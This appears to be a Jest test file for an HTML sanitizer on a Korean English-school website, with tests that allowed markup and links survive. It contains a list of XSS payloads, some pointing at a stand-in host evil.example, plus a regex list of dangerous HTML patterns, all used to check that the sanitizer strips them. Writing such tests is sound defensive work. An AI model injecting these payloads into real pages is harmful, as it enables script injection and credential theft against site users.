import { hasVisibleText, sanitizeProgramHtml } from './program-html';

/** What must never reach a browser from program HTML. */
const DANGEROUS = [
  /<script/i,
  /<\/script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /style\s*=/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<img/i,
  /<form/i,
  /<input/i,
  /<link/i,
  /<meta/i,
  /<base/i,
  /<style/i,
  /srcdoc/i,
];

const PAYLOADS: Array<[string, string]> = [
  ['script tag', '<p>안녕</p><script>alert(1)</script>'],
  ['script in upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['split script tag', '<scr<script>ipt>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
  ['event handler on an allowed tag', '<p onclick="alert(1)" onmouseover=alert(1)>클릭</p>'],
  ['javascript: link', '<a href="javascript:alert(1)">링크</a>'],
  ['javascript: link in mixed case with spaces', '<a href="  JaVaScRiPt:alert(1)">링크</a>'],
  ['javascript: link with a tab', '<a href="java\tscript:alert(1)">링크</a>'],
  [
    'javascript: link with entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">링크</a>',
  ],
  ['javascript: link with &colon;', '<a href="javascript&colon;alert(1)">링크</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">링크</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">링크</a>'],
  ['style attribute', '<div class="box" style="background:url(javascript:alert(1))">상자</div>'],
  ['style tag', '<style>body{display:none}</style><p>본문</p>'],
  ['iframe', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form and input', '<form action="https://evil.example"><input name="pw" autofocus onfocus=alert(1)></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base and link', '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'],
  ['table background', '<table background="javascript:alert(1)"><tr><td onmouseover="alert(1)">칸</td></tr></table>'],
  ['math with xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['unclosed attribute', '<p title="a><script>alert(1)</script>">x</p>'],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
];

describe('sanitizeProgramHtml', () => {
  it.each(PAYLOADS)('removes every dangerous part of a %s', (_name, payload) => {
    const clean = sanitizeProgramHtml(payload);
    for (const pattern of DANGEROUS)
      expect({ payload, clean, match: pattern.test(clean) }).toEqual({ payload, clean, match: false });
  });

  it.each(PAYLOADS)('gives the same answer when applied twice (stored, then served): %s', (_name, payload) => {
    const once = sanitizeProgramHtml(payload);
    expect(sanitizeProgramHtml(once)).toBe(once);
  });

  it('keeps the allowed structure: headings, paragraphs, lists, emphasis, tables, class-only span/div', () => {
    const html =
      '<h2>소개</h2><p>문단<br><strong>굵게</strong> <em>기울임</em> <b>b</b> <i>i</i> <u>밑줄</u></p>' +
      '<ul><li>하나</li></ul><ol><li>둘</li></ol>' +
      '<table><caption>표</caption><thead><tr><th>단계</th></tr></thead><tbody><tr><td>기초</td></tr></tbody><tfoot><tr><td>합계</td></tr></tfoot></table>' +
      '<div class="note"><span class="highlight">강조</span></div><h6>끝</h6>';
    // Void elements come back self-closed.
    expect(sanitizeProgramHtml(html)).toBe(html.replace('<br>', '<br />'));
  });

  it('keeps http(s), mailto and tel links, adding rel="noopener noreferrer" and dropping other attributes', () => {
    expect(sanitizeProgramHtml('<a href="https://example.com/a?b=1&c=2" target="_blank" id="x">웹</a>')).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">웹</a>',
    );
    expect(sanitizeProgramHtml('<a href="mailto:hello@eden-english.kr">메일</a>')).toBe(
      '<a href="mailto:hello@eden-english.kr" rel="noopener noreferrer">메일</a>',
    );
    expect(sanitizeProgramHtml('<a href="tel:0552647780">전화</a>')).toBe(
      '<a href="tel:0552647780" rel="noopener noreferrer">전화</a>',
    );
  });

  it('drops relative and protocol-relative link targets but keeps the text', () => {
    expect(sanitizeProgramHtml('<a href="/courses">강의</a><a href="//evil.example">밖</a>')).toBe(
      '<a rel="noopener noreferrer">강의</a><a rel="noopener noreferrer">밖</a>',
    );
  });

  it('keeps only plain class names on span and div, and no class elsewhere', () => {
    expect(sanitizeProgramHtml('<div class="ok bad() x:y"><p class="lead">t</p></div>')).toBe(
      '<div class="ok"><p>t</p></div>',
    );
  });

  it('escapes text, keeping it readable', () => {
    expect(sanitizeProgramHtml('a & b < c > d "e"')).toBe('a &amp; b &lt; c &gt; d "e"');
  });

  it('passes null through', () => {
    expect(sanitizeProgramHtml(null)).toBeNull();
  });
});

describe('hasVisibleText', () => {
  it.each([
    ['<p>내용</p>', true],
    ['<table><tr><td>칸</td></tr></table>', true],
    ['', false],
    ['<p> </p><br>', false],
    ['<p>&nbsp;</p>', false],
  ])('%s → %s', (html, expected) => {
    expect(hasVisibleText(html)).toBe(expected);
  });
});
